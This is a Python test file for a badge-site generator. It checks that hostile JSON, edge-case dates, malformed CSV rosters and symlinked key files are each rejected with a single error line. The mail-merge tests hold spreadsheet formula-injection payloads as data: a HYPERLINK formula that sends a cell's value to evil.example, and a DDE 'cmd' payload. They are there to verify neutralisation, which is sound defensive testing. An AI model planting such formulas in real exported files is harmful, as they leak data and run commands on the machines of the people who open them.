"""Hostile content JSON, dates, rosters and key files: one clear line each, never a traceback, nothing written."""

from __future__ import annotations

import csv
import hashlib
import json
import os
import shutil
from pathlib import Path

import pytest

from site_builder.cli import main
from site_builder.crypto import keys as keylib
from site_builder.errors import BadgesiteError
from site_builder.load.fields import Fields
from site_builder.load.jsonsource import read_json
from tests.support.fixtures import copy_minimal
from tests.support.signed import signed_minimal

UID = "0" * 31 + "1"
ASSERTION = f"content/assertions/{UID}.json"


def _digest(root: Path) -> dict[str, str]:
    return {p.relative_to(root).as_posix(): hashlib.sha256(p.read_bytes()).hexdigest()
            for p in sorted(root.rglob("*")) if p.is_file() and ".git" not in p.parts and ".cache" not in p.parts}


def _read(tmp_path: Path, text: str) -> str:
    path = tmp_path / "f.json"
    path.write_text(text, encoding="utf-8")
    source, problem = read_json(path, "f.json")
    return str(problem) if problem else f"OK {source.data!r}"  # type: ignore[union-attr]


@pytest.mark.parametrize("text, result", [
    ('{"a": NaN}', "f.json:1:7: invalid JSON: NaN is not a JSON value"),
    ('{\n  "a": [1, Infinity]\n}', "f.json:2:12: invalid JSON: Infinity is not a JSON value"),
    ('{"a": {"b": -Infinity}}', "f.json:1:13: invalid JSON: -Infinity is not a JSON value"),
    ('{"a": ' + "1" * 5000 + "}", "f.json:1:7: invalid JSON: number longer than 64 characters"),
    ('{"a": 0.' + "1" * 70 + "}", "f.json:1:7: invalid JSON: number longer than 64 characters"),
    ('{"a": 1e400}', "f.json:1:7: invalid JSON: number too large"),
    ("[" * 10000 + "]" * 10000, "f.json:1:65: invalid JSON: nested deeper than 64 levels"),
    ('{"a":\n' + '{"b":' * 70 + "1" + "}" * 71, "f.json:2:316: invalid JSON: nested deeper than 64 levels"),
    ('{"name": "Ada \\ud800"}',
     "f.json:1:10: invalid JSON: lone surrogate \\ud800 in a string (it cannot be written as UTF-8)"),
    ('{"\\udc00x": 1}', "f.json:1:2: invalid JSON: lone surrogate \\udc00 in a string (it cannot be written as UTF-8)"),
    ('{"a": "\\ude00\\ud83d"}',
     "f.json:1:7: invalid JSON: lone surrogate \\ude00 in a string (it cannot be written as UTF-8)"),
    ('{"a": "NaN", "b": "\\ud83d\\ude00", "c": "\\\\ud800", "d": [1.5, -2, 1e300]}',
     "OK {'a': 'NaN', 'b': '😀', 'c': '\\\\ud800', 'd': [1.5, -2, 1e+300]}"),
    ("[" * 64 + "]" * 64, "OK " + "[" * 64 + "]" * 64),
    ('{"a": [1, 2,]}', "f.json:1:13: invalid JSON: Expecting value"),
])
def test_hostile_json_is_refused_with_line_and_column(tmp_path: Path, text: str, result: str) -> None:
    assert _read(tmp_path, text) == result


def test_positions_never_crash(tmp_path: Path) -> None:
    path = tmp_path / "f.json"
    path.write_text('{\n  "a": [true, null, -1.5e3],\n  "b": {"c/d": "x"}\n}')
    source, _ = read_json(path, "f.json")
    assert source is not None
    assert source.position("/b/c~1d") == (3, 16) and source.position("/a/2") == (2, 21)


@pytest.mark.parametrize("value, message", [
    ("0001-01-01T00:00:00+14:00", "must be a date from 1900-01-01 to 9999-12-30, got '0001-01-01T00:00:00+14:00'"),
    ("9999-12-31T23:59:59-12:00", "must be a date from 1900-01-01 to 9999-12-30, got '9999-12-31T23:59:59-12:00'"),
    ("9999-12-31", "must be a date from 1900-01-01 to 9999-12-30, got '9999-12-31'"),
    ("1899-12-31", "must be a date from 1900-01-01 to 9999-12-30, got '1899-12-31'"),
    ("0001-01-01", "must be a date from 1900-01-01 to 9999-12-30, got '0001-01-01'"),
    ("1900-01-01", ""),
    ("9999-12-30T23:59:59+14:00", ""),
    ("2025-03-14T09:30:00", ""),
])
def test_dates_at_the_edge_of_the_calendar(tmp_path: Path, value: str, message: str) -> None:
    from zoneinfo import ZoneInfo

    path = tmp_path / "f.json"
    path.write_text(json.dumps({"issuedOn": value}))
    source, _ = read_json(path, "f.json")
    diags: list = []
    moment = Fields(source, diags, source.data).when("issuedOn", ZoneInfo("Pacific/Kiritimati"))  # type: ignore
    if message:
        assert moment is None and [str(d) for d in diags] == [f"f.json:1:14 /issuedOn: 'issuedOn' {message}"]
    else:
        assert moment is not None and not diags
        moment.astimezone(ZoneInfo("Etc/GMT+12")).isoformat()  # shown in any zone without overflow


@pytest.mark.parametrize("value", ["0001-01-01T00:00:00+14:00", "9999-12-31T23:59:59-12:00"])
@pytest.mark.parametrize("command", ["build", "sign"])
def test_edge_dates_on_a_signed_site(tmp_path: Path, capsys: pytest.CaptureFixture[str],
                                     value: str, command: str) -> None:
    site = signed_minimal(tmp_path / "site")
    path = site / ASSERTION
    data = json.loads(path.read_text())
    data["issuedOn"] = value
    path.write_text(json.dumps(data, indent=2) + "\n")
    before = _digest(site)
    capsys.readouterr()
    assert main(["-q", command, "--site", str(site)]) == 1
    line = next(n for n, text in enumerate(path.read_text().splitlines(), 1) if "issuedOn" in text)
    assert capsys.readouterr().err == (
        f"error: 1 error in content:\n  {ASSERTION}:{line}:15 /issuedOn: 'issuedOn' must be a date from "
        f"1900-01-01 to 9999-12-30, got '{value}'\n")
    assert _digest(site) == before and not (site / "output").exists()


# Rosters ------------------------------------------------------------------------------------------

def _issue_csv(site: Path, roster: Path, capsys: pytest.CaptureFixture[str]) -> str:
    before = _digest(site)
    capsys.readouterr()
    assert main(["-q", "issue", "--site", str(site), "tester", "--csv", str(roster)]) == 1
    assert _digest(site) == before
    return capsys.readouterr().err


@pytest.mark.parametrize("data, message", [
    ("name,email\nAda,ada@example.org\n".encode("utf-16"), 'not UTF-8 (UTF-16 text): save it as "CSV UTF-8"'),
    (b"name,email\nJos\xe9,jose@example.org\n", 'not UTF-8 (invalid continuation byte at byte 14): '
                                               'save it as "CSV UTF-8"'),
    (b"name,email\n" + b"x" * (5 * 1024 * 1024), "larger than 5 MB"),
    (b"name,email\n" + b"Ada,ada@example.org\n" * 10_001, "more than 10000 rows"),
    (b"name,email\nAda,ada@example.org,extra\n", "more cells than the header has columns"),
    (b"name,email\nAda,ada@exa\0mple.org\n", "each row needs a name and a valid email"),
    (b'name,email\n"Ada,ada@example.org\n' + b"x" * 200_000 + b'"\n',
     "not a readable CSV (field larger than field limit (131072))"),
])
def test_bad_rosters(tmp_path: Path, capsys: pytest.CaptureFixture[str], data: bytes, message: str) -> None:
    site = copy_minimal(tmp_path / "site")
    roster = tmp_path / "roster.csv"
    roster.write_bytes(data)
    err = _issue_csv(site, roster, capsys)
    where = ":2" if message.startswith(("each row", "more cells")) else ""
    assert err == f"error: {roster}{where}: {message}\n"


def test_utf8_roster_with_byte_order_mark_reads(tmp_path: Path) -> None:
    from site_builder.admin.roster import read_roster

    roster = tmp_path / "roster.csv"
    roster.write_bytes("name,email\nJosé,jose@example.org\n".encode("utf-8-sig"))
    assert [(r.name, r.email) for r in read_roster(roster)] == [("José", "jose@example.org")]


def test_mail_merge_neutralises_formulas(tmp_path: Path) -> None:
    from site_builder.admin.roster import append_mail_merge
    from site_builder.config import load_config

    config = load_config(copy_minimal(tmp_path / "site"))
    hostile = ['=HYPERLINK("https://evil.example/?x="&A1,"Click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
               "\t=1+1", "\r=1+1"]
    rows = [[name, "ada@example.org", "https://example.github.io/minimal/a.html", "https://x.example/a.json"]
            for name in [*hostile, "Ada Lovelace"]]
    path = append_mail_merge(config, "tester", rows)
    with path.open(newline="", encoding="utf-8") as handle:
        read = list(csv.reader(handle))
    assert read[0] == ["name", "email", "verification_url", "assertion_json"]
    assert [r[0] for r in read[1:]] == [*("'" + h for h in hostile), "Ada Lovelace"]
    assert all(r[1:] == rows[0][1:] for r in read[1:])


def test_issue_writes_neutralised_names(tmp_path: Path) -> None:
    site = copy_minimal(tmp_path / "site")
    roster = tmp_path / "roster.csv"
    roster.write_text('name,email\n"=HYPERLINK(""https://evil.example"")",eve@example.org\n'
                      "+cmd|' /C calc'!A0,mal@example.org\n", encoding="utf-8")
    assert main(["-q", "issue", "--site", str(site), "tester", "--csv", str(roster)]) == 0
    with (site / "rosters" / "issued-tester.csv").open(newline="", encoding="utf-8") as handle:
        names = [row["name"] for row in csv.DictReader(handle)]
    assert names == ["'=HYPERLINK(\"https://evil.example\")", "'+cmd|' /C calc'!A0"]


# Key files ----------------------------------------------------------------------------------------

def test_symlinked_key_file_is_refused(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    site = signed_minimal(tmp_path / "site")
    key = site / "keys" / "acme" / "key-1.json"
    moved = tmp_path / "elsewhere.json"
    shutil.move(key, moved)
    key.symlink_to(moved)
    with pytest.raises(BadgesiteError) as caught:
        keylib.read_key(key)
    assert str(caught.value) == f"{key}: is a symbolic link; a key file must be a regular file, not a link"
    path = site / "content" / "issuers" / "acme.json"
    path.write_text(path.read_text().replace('"name": "Acme', '"name": "Acme Renamed'))  # stale: sign must re-sign
    before = _digest(site)
    capsys.readouterr()
    assert main(["-q", "sign", "--site", str(site)]) == 1
    assert capsys.readouterr().err == (
        f"error: {key}: is a symbolic link; a key file must be a regular file, not a link\n")
    assert _digest(site) == before


def test_key_file_that_is_not_a_regular_file(tmp_path: Path) -> None:
    fifo = tmp_path / "key.json"
    os.mkfifo(fifo)
    with pytest.raises(BadgesiteError, match=r"key.json: not a usable key file \(not a regular file\)$"):
        keylib.read_key(fifo)


def test_write_key_never_follows_or_overwrites(tmp_path: Path) -> None:
    target = tmp_path / "victim.txt"
    target.write_text("keep")
    link = tmp_path / "keys" / "key-1.json"
    link.parent.mkdir()
    link.symlink_to(target)
    key = keylib.generate("did:web:example.org", "key-1")
    with pytest.raises(BadgesiteError) as caught:
        keylib.write_key(link, key)
    assert str(caught.value) == f"{link}: already exists (a key file is never overwritten)"
    assert target.read_text() == "keep"
